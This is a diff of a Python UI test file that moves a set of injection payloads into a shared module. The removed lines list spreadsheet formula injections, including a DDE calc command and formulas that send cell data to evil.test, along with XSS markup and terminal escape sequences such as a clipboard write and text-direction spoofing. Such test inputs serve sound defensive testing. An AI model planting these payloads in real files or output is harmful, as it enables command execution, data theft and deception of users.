@@ -31,62 +31,10 @@ from tests.data_folders import copy_data
 from tests.ui.attacks.conftest import each
 from tests.ui.conftest import close
 from tests.ui.memory_pairs import keep
-from tests.ui.payloads import PAYLOADS
+from tests.ui.payloads import FORMULAS, IN_FILES, TERMINAL
 from ui.cli.main import app
 
-FORMULAS = {
-    "equals": "=1+1",
-    "plus": "+1+1",
-    "minus": "-2+3",
-    "at": "@SUM(A1:A9)",
-    "call": "=cmd|' /C calc'!A1",
-    "link": '=HYPERLINK("http://evil.test?q="&A1,"see")',
-    "web": '=WEBSERVICE("http://evil.test/"&A1)',
-    "import": '=IMPORTXML("http://evil.test","//a")',
-    "picture": '=IMAGE("http://evil.test/p.png")',
-    "space": "  =1+1",
-    "tab": "\t=1+1",
-    "newline": "\n=1+1",
-    "return": "\r=1+1",
-    "no-break-space": "\u00a0=1+1",
-    "zero-width": "\u200b=1+1",
-    "mark": "\ufeff=1+1",
-    "quote": '"=1+1',
-    "quote-closes-cell": '","=1+1',
-    "apostrophe": "'=1+1",
-    "full-width": "＝1+1",
-    "full-width-at": "＠SUM(A1)",
-    "typographic-quote": "“=1+1",
-    "separator": ";=1+1",
-    "nul": "\0=1+1",
-    "line-separator": "\u2028=1+1",
-}
-MARKUP = (
-    *("[see](data:text/html;base64,PHNjcmlwdD4=)", "<img\nsrc=//evil.test>"),
-    *("<svg><use href='//evil.test#x'/></svg>", "<!-- --!><script>alert(1)</script>"),
-    *("`` ` ``<b>x</b>` `", "```\n<script>alert(1)</script>\n```\n<b>x</b>"),
-    "| a | b |\n|---|---|\n| <b>x</b> | [y](//evil.test) |",
-    "&lt;script&gt; &#x5B;x&#x5D;(//evil.test)",
-    *("[^1]\n\n[^1]: https://evil.test", "---\ntitle: x\n---\n"),
-    *(text[:2_000] for text in PAYLOADS),
-)
-TERMINAL = {
-    "colour": "\x1b[31mred",
-    "clear": "\x1b[2J\x1b[H",
-    "title": "\x1b]0;evil\x07",
-    "link": "\x1b]8;;http://evil.test\x1b\\see\x1b]8;;\x1b\\",
-    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
-    "answer-back": "\x1b[6n\x05",
-    "one-byte": "\x9b31mred",
-    "return": "done\rfake",
-    "backspace": "safe\b\b\b\bevil",
-    "bell": "\x07",
-    "turned": "\u202egnp.exe",
-    "markup": "[bold red]x[/] [link=http://evil.test]y[/link]",
-    "markup-broken": "[/] [/nothing] [",
-    "emoji": ":skull: :link:",
-}
-TEXTS = [*FORMULAS.values(), *MARKUP, *TERMINAL.values()]
+TEXTS = [*FORMULAS.values(), *IN_FILES, *TERMINAL.values()]
 
 
 @pytest.fixture(scope="module")
